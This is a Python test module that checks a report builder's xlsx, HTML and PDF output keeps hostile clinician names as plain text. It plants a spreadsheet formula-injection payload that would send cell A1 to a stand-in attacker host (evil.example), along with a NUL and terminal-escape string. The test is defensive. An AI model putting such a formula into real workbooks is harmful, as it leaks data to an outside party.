"""Report outputs keep hostile text as text: no live formula in a workbook, no NUL stopping the report."""

from __future__ import annotations

import re
import shutil
import zipfile
from dataclasses import replace

import duckdb
import openpyxl
import pytest

from etl.warehouse import current_snapshot
from reports.build import build_report

MONTH = "2026-10"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")'
NUL_ID = "K9\x00\x1b[2J"


@pytest.fixture(scope="module")
def hostile_warehouse(sample_warehouse, tmp_path_factory):
    """A copy of the sample warehouse whose clinician names hold a formula and a NUL.

    A NUL could be loaded before the load refused control characters, and a formula-like id still
    loads (it is only text): the report must show both as text.
    """
    folder = tmp_path_factory.mktemp("hostile") / "data"
    shutil.copytree(sample_warehouse.data_dir, folder, symlinks=True)
    settings = replace(sample_warehouse, data_dir=folder)
    con = duckdb.connect(str(current_snapshot(folder).path))
    try:
        units = con.execute(
            "select distinct unit from funnel_units where unit_type = 'clinician' order by unit limit 2"
        ).fetchall()
        for (old,), new in zip(units, (FORMULA, NUL_ID), strict=True):
            con.execute("update funnel_units set unit = $new where unit = $old", {"new": new, "old": old})
    finally:
        con.close()
    return settings


@pytest.fixture(scope="module")
def workbook(hostile_warehouse, tmp_path_factory):
    out = tmp_path_factory.mktemp("report")
    files = build_report(hostile_warehouse, MONTH, None, out, ("html", "pdf", "xlsx"))
    assert sorted(p.suffix for p in files) == [".html", ".pdf", ".xlsx"]  # the NUL stopped nothing
    return next(p for p in files if p.suffix == ".xlsx")


def test_a_formula_like_clinician_id_is_a_text_cell_never_a_formula(workbook):
    with zipfile.ZipFile(workbook) as archive:
        sheets = {n: archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")}
    assert not [n for n, xml in sheets.items() if re.search(r"<f[ >]", xml)], "a formula was written"
    found = [
        cell
        for sheet in openpyxl.load_workbook(workbook).worksheets
        for line in sheet.iter_rows()
        for cell in line
        if cell.value == FORMULA
    ]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


def test_a_nul_in_the_warehouse_is_written_as_a_visible_escape(workbook):
    values = [
        c.value for s in openpyxl.load_workbook(workbook).worksheets for line in s.iter_rows() for c in line
    ]
    assert "K9\\x00\\x1b[2J" in values
    assert not [v for v in values if isinstance(v, str) and "\x00" in v]


def test_numbers_stay_numbers_and_negative_ones_are_not_text(workbook):
    cells = [c for s in openpyxl.load_workbook(workbook).worksheets for line in s.iter_rows() for c in line]
    numbers = [c for c in cells if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" and not c.quotePrefix for c in numbers)
